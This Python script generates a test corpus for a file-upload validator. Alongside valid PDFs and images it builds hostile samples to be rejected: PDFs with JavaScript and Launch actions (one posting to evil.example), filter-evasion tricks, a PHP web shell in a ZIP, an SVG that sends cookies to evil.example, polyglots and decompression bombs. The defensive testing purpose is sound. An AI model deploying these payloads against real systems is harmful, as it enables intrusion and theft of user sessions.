"""Build the upload corpus: hostile files that must be refused and valid files that must pass.

Run from the project root: `.venv/bin/python tests/data/uploads/make_corpus.py [directory]`
(default: this script's directory). The files are committed so the tests do not depend on the
generators; `tests/documents/test_checks.py` also runs `build()` into a temporary folder to keep
this script working. Oversized files are not committed: the tests make them on the fly.
"""

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent

# Fixed timestamp so that regenerating the corpus does not change the committed bytes.
ZIP_DATE = (2024, 7, 1, 12, 0, 0)


# --- Helpers ----------------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], trailer_extra: bytes = b"") -> bytes:
    """A minimal PDF with a correct cross-reference table; object 1 is the catalog.

    Written by hand so that hostile structures (escaped names, actions) are exactly what we want,
    which PDF libraries would otherwise normalise.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra,
        xref,
    )
    return bytes(out)


def pdf_stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


ONE_PAGE = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    pdf_stream(b"BT /Helvetica 24 Tf 72 720 Td (Hello) Tj ET"),
]


def one_page_pdf_with(page_entries: bytes, *objects: bytes) -> bytes:
    """ONE_PAGE with these entries added to its page, and these objects after it (from 5 0 R)."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page_entries + b" >>"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", ONE_PAGE[0], page, ONE_PAGE[2], *objects])


def reportlab_pdf(pages: int) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    # invariant=1: no timestamp nor random ID, so the committed file is reproducible.
    pdf = canvas.Canvas(buffer, pagesize=A4, invariant=1)
    for number in range(1, pages + 1):
        pdf.setFont("Helvetica", 18)
        pdf.drawString(72, 760, f"Attestation - page {number}")
        pdf.rect(72, 600, 300, 120)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def pypdf_writer(pages: int = 1):
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf(pages))))
    return writer


def written(writer) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("shell.php", date_time=ZIP_DATE)
        archive.writestr(info, b"<?php system($_GET['c']); ?>\n")
        info = zipfile.ZipInfo("index.html", date_time=ZIP_DATE)
        archive.writestr(info, b"<script>alert(document.cookie)</script>\n")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def photo(width: int, height: int):
    """A landscape test picture with a red block in its stored top-left corner (to check rotation)."""
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (width, height), (40, 90, 160))
    draw = ImageDraw.Draw(image)
    for x in range(0, width, 16):
        draw.line([(x, 0), (x, height)], fill=(60, 120, 190))
    draw.rectangle([0, 0, width // 4, height // 4], fill=(220, 0, 0))
    return image


def exif_with_gps(orientation: int):
    from PIL import ExifTags, Image

    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    # Chartres cathedral: the kind of location a student would not want to share.
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (48.0, 26.0, 51.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (1.0, 29.0, 15.0)
    return exif


# --- Valid files ------------------------------------------------------------------------------


def valid_pdf() -> bytes:
    return reportlab_pdf(2)


def valid_jpeg() -> bytes:
    buffer = io.BytesIO()
    # Orientation 6: the camera stored the picture sideways, viewers rotate it 90° clockwise.
    photo(640, 480).save(buffer, "JPEG", quality=80, exif=exif_with_gps(6), comment=b"secret comment")
    return buffer.getvalue()


def valid_png() -> bytes:
    from PIL import Image, PngImagePlugin

    image = photo(300, 200).convert("RGBA")
    image.putpixel((299, 199), (0, 0, 0, 0))
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Jane Student")
    info.add_text("Comment", "home address: 1 rue de la Paix")
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info, exif=exif_with_gps(1))
    assert Image.open(io.BytesIO(buffer.getvalue())).size == (300, 200)
    return buffer.getvalue()


def valid_heic() -> bytes | None:
    """A phone-like HEIC photo, or None when this pillow-heif build cannot encode HEVC."""
    try:
        import pillow_heif
    except ImportError:
        return None
    if not pillow_heif.libheif_info().get("encoders", {}).get("x265") and not pillow_heif.libheif_info().get(
        "HEIF"
    ):
        return None
    heif = pillow_heif.from_pillow(photo(320, 240))
    buffer = io.BytesIO()
    heif.save(buffer, quality=70, exif=exif_with_gps(1).tobytes())
    return buffer.getvalue()


# --- Hostile files ----------------------------------------------------------------------------


def pdf_with_javascript() -> bytes:
    from pypdf.actions import JavaScript

    writer = pypdf_writer()
    # Document-level script in the /Names /JavaScript tree, run when the file is opened.
    writer.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('https://evil.example/steal');"))
    return written(writer)


def pdf_openaction_javascript() -> bytes:
    # /J#53 is /JS with an escaped character: naive byte searches for "/JS" miss it.
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /J#53 (app.alert\\(1\\)) >> >>",
            *ONE_PAGE,
        ]
    )


def pdf_page_aa_javascript() -> bytes:
    return one_page_pdf_with(
        b"/AA << /O 5 0 R >>",
        b"<< /Type /Action /S /JavaScript /JS 6 0 R >>",
        pdf_stream(b"app.alert(1)"),
    )


def pdf_link_javascript() -> bytes:
    return one_page_pdf_with(
        b"/Annots [5 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
        b" /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    )


def pdf_with_launch_action() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            *ONE_PAGE,
        ]
    )


def pdf_with_embedded_file() -> bytes:
    writer = pypdf_writer()
    writer.add_attachment("invoice.exe", executable_renamed())
    return written(writer)


def pdf_with_file_attachment_annotation() -> bytes:
    return one_page_pdf_with(
        b"/Annots [5 0 R]",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 72 92 92] /FS 6 0 R >>",
        b"<< /Type /Filespec /F (run.bat) /EF << /F 7 0 R >> >>",
        pdf_stream(b"@echo pwned", b"/Type /EmbeddedFile "),
    )


def pdf_with_xfa() -> bytes:
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>",
            *ONE_PAGE,
            pdf_stream(
                b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>"
            ),
        ]
    )


def encrypted_pdf() -> bytes:
    writer = pypdf_writer()
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    return written(writer)


def encrypted_owner_only_pdf() -> bytes:
    # Opens without a password but is encrypted to restrict copying and printing.
    writer = pypdf_writer()
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128", permissions_flag=0)
    return written(writer)


def pdf_with_trailing_zip() -> bytes:
    return valid_pdf() + zip_archive()


def truncated_pdf() -> bytes:
    data = valid_pdf()
    return data[: len(data) * 2 // 3]


def garbage_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def executable_renamed() -> bytes:
    # A DOS/PE header: what a renamed Windows program starts with.
    header = bytearray(128)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(header) + b"PE\x00\x00" + b"This program cannot be run in DOS mode.\r\n" + b"\x00" * 64


def elf_renamed() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\x00" * 100


def zip_renamed() -> bytes:
    return zip_archive()


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">\n'
        b'  <rect width="200" height="100" fill="navy"/>\n'
        b"  <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
        b"</svg>\n"
    )


def png_zip_polyglot() -> bytes:
    # A valid PNG that is also a valid ZIP (archives are read from their end).
    return valid_png() + zip_archive()


def jpeg_zip_polyglot() -> bytes:
    return valid_jpeg() + zip_archive()


def huge_pixels_png() -> bytes:
    """A real 20 000 × 20 000 image (400 million pixels) compressed to about 50 KB.

    1-bit greyscale keeps the compressed stream small; decoded by Pillow as "1" or converted to
    RGB it would need 400 MB to 1.2 GB of memory.
    """
    width = height = 20_000
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * (width // 8)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    chunks = png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def huge_pixels_jpeg() -> bytes:
    """A tiny JPEG whose frame header declares 20 000 × 20 000 pixels."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 20_000, 20_000)
    return bytes(data)


def truncated_jpeg() -> bytes:
    data = valid_jpeg()
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = valid_png()
    return data[: len(data) // 2]


def corrupt_png() -> bytes:
    """Chunks well formed (correct CRCs) but the compressed pixel data is garbage."""
    data = valid_png()
    start = data.index(b"IDAT") - 4
    length = struct.unpack(">I", data[start : start + 4])[0]
    garbage = bytes((i * 37) % 256 for i in range(length))
    return data[:start] + png_chunk(b"IDAT", garbage) + data[start + 12 + length :]


FILES = {
    # Valid files: each must pass.
    "valid.pdf": valid_pdf,
    "valid.jpg": valid_jpeg,
    "valid.png": valid_png,
    "valid.heic": valid_heic,
    # Hostile or broken files: each must be refused with a clear message.
    "pdf_with_javascript.pdf": pdf_with_javascript,
    "pdf_openaction_javascript.pdf": pdf_openaction_javascript,
    "pdf_page_aa_javascript.pdf": pdf_page_aa_javascript,
    "pdf_link_javascript.pdf": pdf_link_javascript,
    "pdf_with_launch_action.pdf": pdf_with_launch_action,
    "pdf_with_embedded_file.pdf": pdf_with_embedded_file,
    "pdf_with_file_attachment_annotation.pdf": pdf_with_file_attachment_annotation,
    "pdf_with_xfa.pdf": pdf_with_xfa,
    "encrypted.pdf": encrypted_pdf,
    "encrypted_owner_only.pdf": encrypted_owner_only_pdf,
    "pdf_with_trailing_zip.pdf": pdf_with_trailing_zip,
    "truncated.pdf": truncated_pdf,
    "garbage.pdf": garbage_pdf,
    "executable_renamed.pdf": executable_renamed,
    "elf_renamed.jpg": elf_renamed,
    "zip_renamed.pdf": zip_renamed,
    "svg_with_script.svg": svg_with_script,
    "png_zip_polyglot.png": png_zip_polyglot,
    "jpeg_zip_polyglot.jpg": jpeg_zip_polyglot,
    "huge_pixels.png": huge_pixels_png,
    "huge_pixels.jpg": huge_pixels_jpeg,
    "truncated.jpg": truncated_jpeg,
    "truncated.png": truncated_png,
    "corrupt.png": corrupt_png,
}


def build(directory: Path = HERE) -> list[str]:
    """Write every corpus file into directory; return the names written."""
    directory.mkdir(parents=True, exist_ok=True)
    names = []
    for name, make in FILES.items():
        data = make()
        if data is None:
            print(f"skipped {name}: not supported by the installed libraries", file=sys.stderr)
            continue
        (directory / name).write_bytes(data)
        names.append(name)
    return names


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    for written_name in build(target):
        print(f"{written_name}: {(target / written_name).stat().st_size} bytes")
